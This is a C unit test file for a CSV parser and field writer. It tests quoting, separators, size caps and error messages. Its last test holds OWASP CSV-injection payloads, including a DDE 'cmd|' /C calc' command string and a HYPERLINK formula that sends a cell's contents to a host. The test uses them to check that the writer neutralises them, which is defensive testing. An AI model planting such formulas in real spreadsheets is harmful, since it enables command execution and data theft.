/* Unit tests for csv.c: RFC 4180 parsing, separator detection, caps, and
 * the receipt field writer. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "csv.h"

static void parse_ok(const char *s, csv_table *t)
{
	char err[128];
	int rc = csv_parse(s, strlen(s), t, err, sizeof err);
	if (rc != 0)
		print_error("unexpected error: %s\n", err);
	assert_int_equal(rc, 0);
}

static void test_simple_lf_crlf(void **state)
{
	(void)state;
	csv_table t;
	parse_ok("a,b,c\r\n1,2,3\n", &t);
	assert_int_equal(t.nrows, 2);
	assert_int_equal(t.ncols[0], 3);
	assert_string_equal(t.rows[0][2], "c");
	assert_string_equal(t.rows[1][0], "1");
	assert_string_equal(t.rows[1][2], "3");
	csv_table_free(&t);
	assert_null(t.rows);
}

static void test_quotes_and_newlines(void **state)
{
	(void)state;
	csv_table t;
	parse_ok("name,note\r\n\"Zhang, Wei\",\"said \"\"hi\"\"\r\nthen left\"\r\n张伟,\"\"\n", &t);
	assert_int_equal(t.nrows, 3);
	assert_string_equal(t.rows[1][0], "Zhang, Wei");
	assert_string_equal(t.rows[1][1], "said \"hi\"\r\nthen left");
	assert_string_equal(t.rows[2][0], "张伟");
	assert_string_equal(t.rows[2][1], "");
	csv_table_free(&t);
}

static void test_separators(void **state)
{
	(void)state;
	csv_table t;
	parse_ok("Date;CPD Description;Hours\n2025-01-02;\"Course; part 1\";8\n", &t);
	assert_int_equal(t.ncols[0], 3);
	assert_string_equal(t.rows[1][1], "Course; part 1");
	assert_string_equal(t.rows[1][2], "8");
	csv_table_free(&t);

	parse_ok("a\tb\tc, with comma\n1\t2\t3\n", &t);
	assert_int_equal(t.ncols[0], 3);
	assert_string_equal(t.rows[0][2], "c, with comma");
	csv_table_free(&t);

	/* A quoted separator on the first line does not count. */
	parse_ok("\"x;y;z\",b\n", &t);
	assert_int_equal(t.ncols[0], 2);
	assert_string_equal(t.rows[0][0], "x;y;z");
	csv_table_free(&t);
}

static void test_bom_empty_lines_trailing(void **state)
{
	(void)state;
	csv_table t;
	parse_ok("\xEF\xBB\xBFh1,h2\n\n\r\nv1,\n", &t);
	assert_int_equal(t.nrows, 2);
	assert_string_equal(t.rows[0][0], "h1");
	assert_int_equal(t.ncols[1], 2);
	assert_string_equal(t.rows[1][1], "");
	csv_table_free(&t);

	parse_ok("last,row", &t);
	assert_int_equal(t.nrows, 1);
	assert_string_equal(t.rows[0][1], "row");
	csv_table_free(&t);

	parse_ok("", &t);
	assert_int_equal(t.nrows, 0);
	csv_table_free(&t);

	/* Old Mac line ends. */
	parse_ok("a,b\rc,d\r", &t);
	assert_int_equal(t.nrows, 2);
	assert_string_equal(t.rows[1][1], "d");
	csv_table_free(&t);
}

static void test_errors_name_line(void **state)
{
	(void)state;
	csv_table t;
	char err[128];
	const char *s = "a,b\n1,2\n\"open,3\n4,5\n";
	assert_int_equal(csv_parse(s, strlen(s), &t, err, sizeof err), -1);
	assert_string_equal(err, "line 3: unterminated quoted field");
	assert_null(t.rows);
	assert_int_equal(t.nrows, 0);

	const char bad[] = "a,b\nx,\xff\n";
	assert_int_equal(csv_parse(bad, sizeof bad - 1, &t, err, sizeof err), -1);
	assert_string_equal(err, "line 2: invalid UTF-8");

	const char nul[] = "a,b\nx,\0y\n";
	assert_int_equal(csv_parse(nul, sizeof nul - 1, &t, err, sizeof err), -1);
	assert_string_equal(err, "line 2: NUL byte");
}

static void test_caps(void **state)
{
	(void)state;
	csv_table t;
	char err[128];
	buf b;

	/* 257 columns */
	buf_init(&b, 0);
	for (int i = 0; i < CSV_MAX_COLS; i++)
		buf_adds(&b, "x,");
	buf_adds(&b, "y\n");
	assert_int_equal(csv_parse(b.data, b.len, &t, err, sizeof err), -1);
	assert_string_equal(err, "line 1: more than 256 columns");
	/* exactly 256 columns is fine */
	b.len -= 4;
	buf_adds(&b, "y\n");
	assert_int_equal(csv_parse(b.data, b.len, &t, err, sizeof err), 0);
	assert_int_equal(t.ncols[0], CSV_MAX_COLS);
	csv_table_free(&t);
	buf_free(&b);

	/* a field of 64 KB + 1 */
	buf_init(&b, 0);
	buf_adds(&b, "ok\n\"");
	for (int i = 0; i <= CSV_MAX_FIELD; i++)
		buf_add(&b, "z", 1);
	buf_adds(&b, "\"\n");
	assert_int_equal(csv_parse(b.data, b.len, &t, err, sizeof err), -1);
	assert_string_equal(err, "line 2: field longer than 65536 bytes");
	buf_free(&b);

	/* 100001 rows */
	buf_init(&b, 0);
	for (int i = 0; i <= CSV_MAX_ROWS; i++)
		buf_adds(&b, "r\n");
	assert_int_equal(csv_parse(b.data, b.len, &t, err, sizeof err), -1);
	assert_string_equal(err, "line 100001: more than 100000 rows");
	b.len -= 2;
	assert_int_equal(csv_parse(b.data, b.len, &t, err, sizeof err), 0);
	assert_int_equal(t.nrows, CSV_MAX_ROWS);
	csv_table_free(&t);
	buf_free(&b);
}

static void test_add_field(void **state)
{
	(void)state;
	buf b;
	buf_init(&b, 0);
	csv_add_field(&b, "plain");
	assert_int_equal(buf_error(&b), 0);
	buf_adds(&b, ",");
	csv_add_field(&b, "a,b");
	buf_adds(&b, ",");
	csv_add_field(&b, "say \"x\"");
	buf_adds(&b, ",");
	csv_add_field(&b, "two\nlines");
	buf_adds(&b, ",");
	csv_add_field(&b, " padded");
	buf_adds(&b, ",");
	csv_add_field(&b, "张伟");
	buf_adds(&b, ",");
	csv_add_field(&b, NULL);
	assert_string_equal(b.data, "plain,\"a,b\",\"say \"\"x\"\"\",\"two\nlines\",\" padded\",张伟,");

	/* What the writer produced reads back as the same fields. */
	csv_table t;
	parse_ok(b.data, &t);
	assert_int_equal(t.nrows, 1);
	assert_int_equal(t.ncols[0], 7);
	assert_string_equal(t.rows[0][2], "say \"x\"");
	assert_string_equal(t.rows[0][3], "two\nlines");
	assert_string_equal(t.rows[0][4], " padded");
	csv_table_free(&t);
	buf_free(&b);

	/* The buffer's cap is honoured. */
	buf_init(&b, 4);
	csv_add_field(&b, "a,bcdef");
	assert_int_equal(buf_error(&b), -1);
	/* The error sticks: a later write that would fit adds nothing. */
	size_t before = b.len;
	buf_adds(&b, "x");
	assert_int_equal(buf_error(&b), -1);
	assert_int_equal(b.len, before);
	/* ... and the take at the end reports it, handing nothing. */
	char *out = (char *)"unset";
	assert_int_equal(buf_take(&b, &out), -1);
	assert_null(out);
	assert_null(b.data);
	/* A buffer reset after a failure takes writes again. */
	buf_init(&b, 4);
	buf_adds(&b, "abcdef");
	buf_reset(&b);
	buf_adds(&b, "ab");
	assert_int_equal(buf_take(&b, &out), 0);
	assert_string_equal(out, "ab");
	free(out);
}

/* OWASP CSV injection: a cell a spreadsheet would evaluate starts with an
 * apostrophe, and still reads back as one field. */
static void test_formula_cells(void **state)
{
	static const char *const in[] = {"=HYPERLINK(\"http://x/?\"&A1,\"click\")", "+1+2", "-2+3+cmd|' /C calc'!A0",
					 "@SUM(A1)", "\tlead", "\rlead", "a=b", "'kept", "张伟"};
	static const char *const back[] = {"'=HYPERLINK(\"http://x/?\"&A1,\"click\")", "'+1+2",
					   "'-2+3+cmd|' /C calc'!A0", "'@SUM(A1)", "'\tlead", "'\rlead", "a=b",
					   "'kept", "张伟"};
	size_t n = sizeof in / sizeof in[0];
	csv_table t;
	buf b;
	(void)state;
	buf_init(&b, 0);
	for (size_t i = 0; i < n; i++) {
		if (i)
			buf_adds(&b, ",");
		csv_add_field(&b, in[i]);
		assert_int_equal(buf_error(&b), 0);
	}
	assert_non_null(strstr(b.data, "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\""));
	assert_non_null(strstr(b.data, ",'+1+2,"));
	parse_ok(b.data, &t);
	assert_int_equal(t.nrows, 1);
	assert_int_equal(t.ncols[0], n);
	for (size_t i = 0; i < n; i++)
		assert_string_equal(t.rows[0][i], back[i]);
	csv_table_free(&t);
	buf_free(&b);

	/* The apostrophe counts against the cap like any byte. */
	buf_init(&b, 3);
	csv_add_field(&b, "=ab");
	assert_int_equal(buf_error(&b), -1);
	buf_free(&b);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_simple_lf_crlf),
		cmocka_unit_test(test_quotes_and_newlines),
		cmocka_unit_test(test_separators),
		cmocka_unit_test(test_bom_empty_lines_trailing),
		cmocka_unit_test(test_errors_name_line),
		cmocka_unit_test(test_caps),
		cmocka_unit_test(test_add_field),
		cmocka_unit_test(test_formula_cells),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
